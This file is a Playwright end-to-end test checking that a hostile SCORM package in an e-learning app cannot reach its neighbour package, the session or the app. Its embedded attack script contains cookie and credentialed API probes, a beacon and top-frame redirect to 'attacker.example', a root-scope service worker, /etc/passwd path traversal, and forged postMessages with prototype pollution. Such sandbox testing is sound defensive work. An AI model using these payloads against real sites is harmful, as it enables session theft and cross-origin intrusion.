import type { FrameLocator, Page } from '@playwright/test';

import { reading } from '../../fixtures/author.ts';
import type { ActivityInput, Author } from '../../fixtures/author.ts';
import { onePagePackage } from '../../fixtures/one-page-package.ts';
import { OwnCourse } from '../../fixtures/own-course.ts';
import { expect, test } from '../../fixtures/test.ts';

// What a package asks for has to be refused by the browser, not by the journey.
test.use({ serviceWorkers: 'allow' });

/** Everything a package may try against its neighbors, the app and the person; what worked stands in `found`. */
const ATTACK = `
  const found = [];
  const attempt = async (name, work) => { try { if (await work()) found.push(name); } catch { /* refused */ } };
  const host = location.hostname.split('.').slice(1).join('.');
  (async () => {
    await attempt('a mark in the storage', () => localStorage.getItem('mark') ?? sessionStorage.getItem('mark'));
    await attempt('a mark in the cookies', () => document.cookie.includes('mark'));
    await attempt('a mark in a database', async () => (await indexedDB.databases()).some(({ name }) => name === 'mark'));
    await attempt('a mark in the caches', async () => (await caches.keys()).includes('mark'));
    await attempt('document of the app', () => top.document.title);
    await attempt('storage of the app', () => top.localStorage.length);
    await attempt('session in a cookie', () => document.cookie.includes('trilha'));
    await attempt('api with the session', async () => (await fetch(APP + '/api/v1/me', { credentials: 'include' })).ok);
    await attempt('service worker', () => navigator.serviceWorker.register('sw.js').then(() => true));
    await attempt('service worker of everybody', () => navigator.serviceWorker.register('sw.js', { scope: '/' }).then(() => true));
    await attempt('the address of the app', () => { top.location = 'https://attacker.example/'; return false; });
    await attempt('the address of the app by a link', () => {
      const link = document.body.appendChild(document.createElement('a'));
      link.href = 'https://attacker.example/';
      link.target = '_top';
      link.click();
      return false;
    });
    await attempt('another site by a picture', () => new Promise((resolve, reject) => {
      const picture = new Image();
      picture.onload = () => resolve(true);
      picture.onerror = reject;
      picture.src = APP + '/favicon.ico';
    }));
    await attempt('another site by a beacon', () => navigator.sendBeacon('https://attacker.example/', 'x') && false);
    await attempt('the file of another package', async () => {
      const folder = location.pathname.split('/').slice(0, 3).join('/');
      for (const path of ['../imsmanifest.xml', '/..%2f..%2fetc/passwd', '/%2e%2e/other', '/../../files/x'])
        if (path.startsWith('/') && (await fetch(folder + path)).ok) return true;
      return false;
    });
    // Marks for the neighbors to find.
    localStorage.setItem('mark', '1');
    sessionStorage.setItem('mark', '1');
    for (const domain of ['', '; domain=' + host])
      for (const path of ['', '; path=/', '; path=/packages', '; path=/player'])
        for (const site of ['', '; samesite=none; secure'])
          document.cookie = 'mark' + site.length + '=1; max-age=86400' + path + domain + site;
    indexedDB.open('mark');
    await attempt('', async () => { await caches.open('mark'); });
    // Forged and monstrous messages.
    for (const to of [parent, top, parent.parent])
      for (const message of [
        { type: 'closed' }, { type: 'ended' }, { type: 'state', urgent: true, commit: { seq: 1e99 } },
        { type: 'place', place: { itemId: 'x'.repeat(5e6), controls: { continue: true, previous: true, choices: Array(1e5).fill('y') } } },
        { type: '__proto__', __proto__: { admin: true } }, 'x'.repeat(5e6), null, [[[[]]]],
        { type: 'start', launch: {}, session: {} }, { type: 'trilha:sign-out' },
      ])
        to.postMessage(message, '*');
    document.getElementById('out').textContent = 'found:' + found.filter(Boolean).join(', ');
  })();`;

const page = (app: string) =>
  `<!doctype html><meta charset="utf-8"><p id="out">…</p><script>const APP = ${JSON.stringify(app)};${ATTACK}</script>`;

/** A package that tries all of it, with a program that would answer for others. */
const hostilePackage = (author: Author, name: string, app: string): Promise<string> =>
  onePagePackage(author, name, {
    'index.html': page(app),
    'sw.js': 'self.addEventListener("fetch", () => undefined);',
  });

const inside = (on: Page): FrameLocator => on.frameLocator('iframe').frameLocator('iframe');

test('a SCORM package finds nothing of its neighbor, the session or the app, and cannot speak for either [ACT-03]', async ({
  page: own,
  signIn,
  author,
  request,
  context,
  baseURL,
}) => {
  const app = baseURL ?? '';
  const lesson = async (name: string): Promise<ActivityInput> => ({
    ...reading(name),
    type: 'scorm',
    settings: { packageId: await hostilePackage(author, `${name}.zip`, app) },
  });
  const lessons = [await lesson('Primeiro'), await lesson('Segundo')];
  const course = await OwnCourse.create(request, author, 'ana.learner', lessons);
  await signIn('ana.learner');
  const popups: string[] = [];
  context.on('page', (popup) => popups.push(popup.url()));
  const addresses: string[] = [];

  for (const place of [1, 2]) {
    await own.goto(course.address(place));
    await expect(inside(own).locator('#out')).toHaveText('found:');
    addresses.push((await own.locator('iframe').first().getAttribute('src')) ?? '');
    // Nothing of what it said led the page away, ended the lesson or signed anybody out.
    await expect(own).toHaveURL(new RegExp(`/activities/${place}$`));
    await expect(own.getByRole('button', { name: 'Tela cheia' })).toBeVisible();
  }
  expect(new Set(addresses.map((address) => new URL(address).origin)).size).toBe(2);
  expect(popups).toEqual([]);
  expect(
    context
      .serviceWorkers()
      .map((worker) => worker.url())
      .filter((url) => !url.startsWith(app)),
  ).toEqual([]);

  await test.step('its address is nothing on another package’s origin, nor for who is signed out', async () => {
    const [first = '', second = ''] = addresses.map((address) => new URL(address));
    const swapped = new URL(new URL(first).pathname, new URL(second).origin);
    // As a client without a name server: the origin of a package is given by its Host.
    const ask = (address: URL) =>
      request.get(`http://127.0.0.1:${address.port}${address.pathname}`, { headers: { host: address.host } });
    expect((await ask(swapped)).status()).toBe(404);
    expect((await ask(new URL(first))).status()).toBe(200);
  });
});
